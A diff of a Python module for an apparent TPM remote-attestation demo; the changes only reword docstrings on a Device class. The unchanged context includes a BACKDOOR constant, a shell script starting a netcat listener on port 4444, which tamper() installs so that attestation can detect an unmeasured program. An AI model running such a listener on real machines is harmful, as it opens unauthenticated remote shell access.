@@ -19,14 +19,14 @@ BACKDOOR: Final = "#!/bin/sh\n# Nobody vouched for this file.\nexec nc -l 4444 -
 
 @dataclass(slots=True, kw_only=True)
 class Device:
-    """What there is of one device. Owned by the main thread.
+    """One device. Owned by the main thread.
 
     Attributes:
         number: from 1.
         ak_algorithm: of its attesting key.
         directory: its logs, its TPM's state, its agent's files.
-        files: what its kernel will measure, in order.
-        ueid: known once it is provisioned.
+        files: for its kernel to measure, in order.
+        ueid: None until the device is provisioned.
     """
 
     number: int
@@ -55,7 +55,7 @@ class Device:
         return self.directory / "agent.toml"
 
     def switch_on(self, children: Children) -> None:
-        """Starts the TPM with TPM2_Startup(CLEAR); it may take a moment until it answers."""
+        """Starts the TPM with TPM2_Startup(CLEAR); the TPM may need a moment to answer."""
         state = self.directory / "tpm"
         state.mkdir(exist_ok=True)
         for path in (self.socket, self._control):
@@ -93,10 +93,10 @@ class Device:
             self.agent = None
 
     def reboot(self, children: Children, firmware: Firmware, progress: Progress) -> None:
-        """Everything off in order, and on again: a new boot with new logs.
+        """Switches everything off in order, and on again: a new boot with new logs.
 
         Raises:
-            DemoError: something did not come back.
+            DemoError: something did not start again.
         """
         self.stop_agent(children)
         if self.kernel is not None:
@@ -109,7 +109,7 @@ class Device:
         self.start_agent(children)
 
     def tamper(self) -> Path:
-        """Installs and runs a program that is in no reference values; returns its path."""
+        """Installs and runs a program without a reference value; returns its path."""
         path = self.directory / "backdoor"
         path.write_text(BACKDOOR, encoding="utf-8")
         if self.kernel is not None:
@@ -122,7 +122,7 @@ class Device:
 
 
 def make_devices(run: RunDirectory, count: int, files: Sequence[Path]) -> tuple[Device, ...]:
-    """The devices of one run, none of them switched on; each measures the files in an order of its own."""
+    """The devices of one run, switched off; each measures the files in another order."""
     devices = []
     for number in range(1, count + 1):
         directory = run.devices / str(number)
